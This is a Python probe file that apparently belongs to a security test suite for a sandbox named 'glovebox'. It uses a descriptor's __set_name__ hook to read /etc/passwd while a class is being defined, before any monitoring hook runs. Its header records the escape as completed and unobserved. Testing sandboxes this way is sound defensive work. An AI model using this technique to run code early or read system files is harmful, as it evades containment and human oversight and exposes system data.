# id: L14
# family: language
# goal: run code while the class is made, before any hook has a budget
# finding: PY111 PY201 PY504
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


found = []


class Probe:
    def __set_name__(self, owner, name):
        try:
            found.append(open("/etc/passwd").read(20))
        except Exception:
            pass


class Holder:
    probe = Probe()


def attack(ctx, bar):
    return found and found[0]


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
